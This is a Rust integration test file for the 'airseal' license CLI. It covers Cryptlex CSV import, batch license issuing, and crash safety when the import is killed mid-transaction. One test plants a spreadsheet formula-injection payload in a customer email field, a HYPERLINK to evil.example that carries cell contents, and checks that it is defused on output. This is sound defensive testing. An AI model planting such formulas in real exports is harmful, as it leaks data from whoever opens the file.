//! `airseal import` and `airseal issue --batch --from-import` end to end, including a real
//! SIGKILL in the middle of an import.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use airseal_vendor::ledger::Ledger;
use serde_json::Value;

mod common;
use common::{airseal, exits, ok};

fn fixture(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../crates/airseal-vendor/tests/fixtures/import")
        .join(name)
        .display()
        .to_string()
}

fn vendor() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().unwrap();
    ok(&airseal(tmp.path(), &["init", "--vendor-id", "acme"]));
    let mut cfg = std::fs::read_to_string(tmp.path().join("airseal.toml")).unwrap();
    cfg.push_str(
        "\n[products.photo-pro]\nskgl_secret = \"567\"\n\
         [products.photo-pro.templates.pro]\nkind = \"subscription\"\ngrace_days = 7\n",
    );
    std::fs::write(tmp.path().join("airseal.toml"), cfg).unwrap();
    tmp
}

fn count(ledger: &Ledger, sql: &str) -> i64 {
    ledger
        .sqlite_connection()
        .unwrap()
        .query_row(sql, [], |r| r.get(0))
        .unwrap()
}

#[test]
fn import_report_then_licenses_for_every_imported_key() {
    let v = vendor();
    let d = v.path();
    let file = fixture("cryptlex-v2.csv");
    let base = [
        "import",
        "--from",
        "cryptlex-v2",
        file.as_str(),
        "--product",
        "photo-pro",
        "--template",
        "pro",
    ];

    // Dry run: the same summary, nothing in the ledger.
    let mut dry = base.to_vec();
    dry.push("--dry-run");
    let out = exits(&airseal(d, &dry), 4);
    assert!(out.contains("dry run: nothing written"), "{out}");
    assert!(out.contains("rows read               16"), "{out}");
    let ledger = Ledger::open(&d.join("ledger.sqlite3")).unwrap();
    assert_eq!(count(&ledger, "SELECT count(*) FROM keys"), 0);

    let mut real = base.to_vec();
    real.extend(["--report", "report.json"]);
    let out = exits(&airseal(d, &real), 4);
    assert!(out.contains("imported                 7"), "{out}");
    assert!(out.contains("rejected                 9  (8 invalid, 1 duplicate, 0 conflict)"));
    // Each rejected row is named with its file, line and column.
    assert!(
        out.contains(&format!(
            "{file}:9: column \"Expires On\": \"31/12/2027\" is not a date"
        )),
        "{out}"
    );
    assert!(out.contains("--from-import 1 --out-dir"), "{out}");
    let report: Value =
        serde_json::from_slice(&std::fs::read(d.join("report.json")).unwrap()).unwrap();
    let n = |k: &str| report[k].as_u64().unwrap();
    assert_eq!(
        n("read"),
        n("imported") + n("already_present") + n("rejected")
    );
    assert_eq!((n("read"), n("imported"), n("rejected")), (16, 7, 9));
    assert_eq!(report["rejections"].as_array().unwrap().len(), 9);
    assert_eq!(report["rejections"][0]["kind"], "duplicate");
    assert_eq!(report["rejections"][0]["first_line"], 2);
    assert_eq!(report["batch"], 1);

    // The report is never overwritten without --force; re-import is idempotent.
    assert_eq!(airseal(d, &real).status.code(), Some(1));
    real.push("--force");
    let out = exits(&airseal(d, &real), 4);
    assert!(out.contains("already present          7"), "{out}");

    // Licenses: one per active, unexpired imported key (3 are suspended/revoked/expired).
    let out = airseal(
        d,
        &[
            "issue",
            "--batch",
            "--from-import",
            "1",
            "--out-dir",
            "licenses",
        ],
    );
    ok(&out);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("issued 4 licenses for import batch 1"),
        "{stderr}"
    );
    let index = std::fs::read_to_string(d.join("licenses/index.csv")).unwrap();
    assert_eq!(index.lines().count(), 1 + 7, "{index}");
    assert!(index.contains("E4E4E4-F5F5F5-060606-171717,,,,skipped: the key is revoked"));
    assert!(index.contains("292929-3A3A3A-4B4B4B-5C5C5C,,,,skipped: expired on 2023-06-30"));
    let out = ok(&airseal(
        d,
        &[
            "verify",
            "licenses/8F3A1C-6B2D9E-04C7F1-A95B3D.lic",
            "--public-key",
            "keys/signing.pub",
            "--product",
            "photo-pro",
            "--json",
        ],
    ));
    let lic: Value = serde_json::from_str(&out).unwrap();
    let text = lic.to_string();
    for want in [
        "8F3A1C-6B2D9E-04C7F1-A95B3D",
        "jane@example.com",
        "Berlin, DE",
        "subscription",
    ] {
        assert!(text.contains(want), "{want} missing from {text}");
    }
    // Nothing is overwritten without --force.
    let again = airseal(
        d,
        &[
            "issue",
            "--batch",
            "--from-import",
            "1",
            "--out-dir",
            "licenses",
        ],
    );
    assert_eq!(again.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&again.stderr).contains("--force"));
    // Only imports can be issued this way.
    let bad = airseal(
        d,
        &["issue", "--batch", "--from-import", "99", "--out-dir", "x"],
    );
    assert_eq!(bad.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("not an import"));
}

#[test]
fn ambiguous_columns_and_bad_files_are_refused_with_a_way_forward() {
    let v = vendor();
    let d = v.path();
    let file = fixture("cryptlex-ambiguous.csv");
    let out = airseal(
        d,
        &[
            "import",
            "--from",
            "cryptlex",
            &file,
            "--product",
            "photo-pro",
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("column 3 \"totalActivations\" is ambiguous")
            && err.contains("--map 'totalActivations=used_activations'"),
        "{err}"
    );
    let out = ok(&airseal(
        d,
        &[
            "import",
            "--from",
            "cryptlex",
            &file,
            "--product",
            "photo-pro",
            "--map",
            "totalActivations=used_activations",
            "--json",
        ],
    ));
    let r: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (r["read"].as_u64(), r["imported"].as_u64()),
        (Some(2), Some(2))
    );

    let out = airseal(
        d,
        &[
            "import",
            "--from",
            "cryptlex-v2",
            &fixture("not-csv.xlsx"),
            "--product",
            "photo-pro",
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a CSV file"));
    let out = airseal(
        d,
        &["import", "--from", "nope", &file, "--product", "photo-pro"],
    );
    assert_eq!(out.status.code(), Some(2));
}

/// A Cryptlex v2 export of `rows` rows with distinct keys.
fn big_export(path: &Path, rows: usize) {
    let mut s = String::from(
        "\"Key ID\", \"Product Key\", \"Email\", \"Status\", \"Expires On\", \"Total \
         Activations\", \"Used Activations\", \"Total Deactivations\", \"Used Deactivations\", \
         \"Creation Date\", \"Custom Fields\", \"Activation Location\",\"Activation Date\",\
         \"Activation Extra Data\",\"Activation OS\"\r\n",
    );
    for i in 0..rows {
        let _ = write!(
            s,
            "\"{i}\", \"K{i:09}\", \"u{i}@example.com\", \"Active\", \"12/31/2030\", \"3\", \
             \"1\", \"1\", \"0\", \"01/15/2024\", \"seats=5\", \"Berlin\",\"\",\"\",\"\"\r\n"
        );
    }
    std::fs::write(path, s).unwrap();
}

/// When to kill `airseal import` in `killed_import_leaves_none_or_all_of_the_batch`.
#[derive(Clone, Copy, Debug)]
enum KillAt {
    /// This long after the start: while the file is still being read and parsed.
    Start(u64),
    /// This long after the ledger's rollback journal appears: inside the write transaction.
    Journal(u64),
}

/// Kill `airseal import` for real at several moments: the ledger then holds either none of
/// the batch (no key, no terms, no batch, no import record) or all of it.
///
/// An import this size runs in rollback-journal mode (`ledger::BULK_ROWS`). Its write
/// transaction begins by creating `ledger.sqlite3-journal`, so the kills inside it are timed
/// from that file's appearance instead of from the start, which on a fast or slow machine
/// could land anywhere. A kill inside the transaction leaves that journal behind ("hot"),
/// and the next open must roll the batch back.
#[test]
fn killed_import_leaves_none_or_all_of_the_batch() {
    const ROWS: usize = 150_000;
    const _: () = assert!(ROWS >= airseal_vendor::ledger::BULK_ROWS);
    let mut outcomes = Vec::new();
    for at in [
        KillAt::Start(150),
        KillAt::Journal(0),
        KillAt::Journal(150),
        KillAt::Journal(600),
    ] {
        let v = vendor();
        let d = v.path();
        let export: PathBuf = d.join("export.csv");
        big_export(&export, ROWS);
        let journal = d.join("ledger.sqlite3-journal");
        let mut child = Command::new(env!("CARGO_BIN_EXE_airseal"))
            .current_dir(d)
            .args([
                "import",
                "--from",
                "cryptlex-v2",
                "export.csv",
                "--product",
                "photo-pro",
            ])
            .env_remove("AIRSEAL_VENDOR")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        match at {
            KillAt::Start(ms) => std::thread::sleep(Duration::from_millis(ms)),
            KillAt::Journal(ms) => {
                while !journal.exists() && child.try_wait().unwrap().is_none() {
                    std::thread::sleep(Duration::from_millis(1));
                }
                std::thread::sleep(Duration::from_millis(ms));
            }
        }
        child.kill().unwrap(); // SIGKILL
        let status = child.wait().unwrap();
        let hot = journal.exists();
        let ledger = Ledger::open(&d.join("ledger.sqlite3")).unwrap();
        // A hot journal is rolled back and deleted by the next open. One killed before
        // SQLite wrote its header (between creating the file and the first write: a window a
        // loaded machine can land in) was never hot: SQLite ignores it, and it holds nothing.
        if let Ok(left) = std::fs::read(&journal) {
            const JOURNAL_MAGIC: [u8; 8] = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
            assert!(
                !left.starts_with(&JOURNAL_MAGIC),
                "a hot journal outlived the next open (after a kill at {at:?})"
            );
        }
        let mode: String = ledger
            .sqlite_connection()
            .unwrap()
            .pragma_query_value(None, "journal_mode", |r| r.get(0))
            .unwrap();
        assert_eq!(mode, "wal");
        let keys = count(&ledger, "SELECT count(*) FROM keys");
        let terms = count(&ledger, "SELECT count(*) FROM keys WHERE terms IS NOT NULL");
        let imports = count(&ledger, "SELECT count(*) FROM imports");
        let batches = count(
            &ledger,
            "SELECT count(*) FROM batches WHERE kind = 'import'",
        );
        let rows = ROWS as i64;
        assert!(
            (keys, terms, imports, batches) == (0, 0, 0, 0)
                || (keys, terms, imports, batches) == (rows, rows, 1, 1),
            "after a kill at {at:?}: {keys} keys, {terms} terms, {imports} imports, \
             {batches} batches"
        );
        assert!(!hot || keys == 0, "a hot journal, yet the batch is there");
        if keys == 0 {
            // The next run imports everything.
            let out = ok(&airseal(
                d,
                &[
                    "import",
                    "--from",
                    "cryptlex-v2",
                    "export.csv",
                    "--product",
                    "photo-pro",
                    "--json",
                ],
            ));
            let r: Value = serde_json::from_str(&out).unwrap();
            assert_eq!(r["imported"].as_u64(), Some(ROWS as u64));
        }
        outcomes.push((at, status.success(), hot));
    }
    assert!(
        outcomes.iter().any(|(_, _, hot)| *hot),
        "no run was killed inside the write transaction: {outcomes:?}"
    );
}

#[test]
fn keys_inspect_finds_an_imported_key_however_it_is_typed() {
    let tmp = vendor();
    let d = tmp.path();
    exits(
        &airseal(
            d,
            &[
                "import",
                "--from",
                "cryptlex-v2",
                &fixture("cryptlex-v2.csv"),
                "--product",
                "photo-pro",
            ],
        ),
        4,
    );
    // Stored as exported: "8F3A1C-6B2D9E-04C7F1-A95B3D". Typed in lower case with spaces:
    for typed in ["8F3A1C-6B2D9E-04C7F1-A95B3D", "8f3a1c 6b2d9e 04c7f1 a95b3d"] {
        let out = ok(&airseal(
            d,
            &["keys", "inspect", typed, "--product", "photo-pro", "--json"],
        ));
        let v: Value = serde_json::from_str(out.trim()).unwrap();
        assert_eq!(v["status"], "valid", "{out}");
        assert_eq!(v["kind"], "import", "{out}");
        assert_eq!(v["key"], "8F3A1C-6B2D9E-04C7F1-A95B3D", "{out}");
        assert_eq!(
            v["typed_differently"],
            typed != "8F3A1C-6B2D9E-04C7F1-A95B3D",
            "{out}"
        );
    }
    // A key that was never imported is still not found.
    let o = airseal(
        d,
        &[
            "keys",
            "inspect",
            "8F3A1C-6B2D9E-04C7F1-A95B3E",
            "--product",
            "photo-pro",
        ],
    );
    assert_ne!(o.status.code(), Some(0));
}

/// `index.csv` holds customers' e-mail addresses: one that a spreadsheet would run as a
/// formula is written defused (prefixed with `'`) and quoted, through the one CSV writer.
#[test]
fn index_csv_defuses_formulas_in_customer_fields() {
    let v = vendor();
    let d = v.path();
    let evil = "=HYPERLINK(\"http://evil.example/\"&A1)@x.example";
    let csv = format!(
        "\"Key ID\", \"Product Key\", \"Email\", \"Status\", \"Expires On\", \"Total Activations\"\n\
         \"1\", \"8F3A1C-6B2D9E-04C7F1-A95B3D\", \"{}\", \"Active\", \"12/31/2099\", \"3\"\n\
         \"2\", \"1B7E44-90AC3F-D2E815-6C0B7A\", \"+bob@example.org\", \"Active\", \"\", \"1\"\n",
        evil.replace('"', "\"\"")
    );
    std::fs::write(d.join("export.csv"), csv).unwrap();
    ok(&airseal(
        d,
        &[
            "import",
            "--from",
            "cryptlex-v2",
            "export.csv",
            "--product",
            "photo-pro",
            "--template",
            "pro",
        ],
    ));
    ok(&airseal(
        d,
        &["issue", "--batch", "--from-import", "1", "--out-dir", "lic"],
    ));
    let index = std::fs::read_to_string(d.join("lic/index.csv")).unwrap();
    assert!(
        index.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)@x.example\",issued"),
        "{index}"
    );
    assert!(index.contains(",'+bob@example.org,issued"), "{index}");
    for line in index.lines() {
        for field in line.split(',') {
            assert!(!field.starts_with(['=', '+', '@']), "{field:?} in {index}");
        }
    }
}

/// Two spellings of one key in one export (`ABCD-1234-EFGH` and `abcd1234efgh`) are one key:
/// the second is rejected as a duplicate of the first, so neither spelling becomes
/// ambiguous and revoking one customer's key cannot list another's license; a later import
/// spelling it another way finds the key already there.
#[test]
fn two_spellings_of_one_key_in_an_export_are_a_duplicate() {
    let tmp = vendor();
    let d = tmp.path();
    std::fs::write(
        d.join("two.csv"),
        "key,email\nABCD-1234-EFGH,a@example.com\nabcd1234efgh,g@example.com\nWXYZ-1,w@example.com\n",
    )
    .unwrap();
    let args = [
        "import",
        "--from",
        "generic",
        "two.csv",
        "--product",
        "photo-pro",
        "--map",
        "key=key",
        "--map",
        "email=email",
        "--json",
    ];
    let o = airseal(d, &args);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["imported"], 2, "{v}");
    assert_eq!(v["duplicates"], 1, "{v}");
    let ledger = Ledger::open(&d.join("ledger.sqlite3")).unwrap();
    assert_eq!(
        count(
            &ledger,
            "SELECT count(*) FROM keys WHERE upper(replace(key, '-', '')) = 'ABCD1234EFGH'"
        ),
        1
    );
    // A later export spelling it a third way is that key again: already present.
    std::fs::write(
        d.join("again.csv"),
        "key,email\nabcd.1234.efgh,a@example.com\n",
    )
    .unwrap();
    let mut again = args;
    again[3] = "again.csv";
    let v: Value = serde_json::from_slice(&airseal(d, &again).stdout).unwrap();
    assert_eq!(
        (v["imported"].as_u64(), v["already_present"].as_u64()),
        (Some(0), Some(1)),
        "{v}"
    );
    // Either spelling finds the one key.
    for typed in ["abcd1234efgh", "ABCD-1234-EFGH"] {
        let out = ok(&airseal(
            d,
            &["keys", "inspect", typed, "--product", "photo-pro", "--json"],
        ));
        let v: Value = serde_json::from_str(out.trim()).unwrap();
        assert_eq!(v["key"], "ABCD-1234-EFGH", "{out}");
    }
}
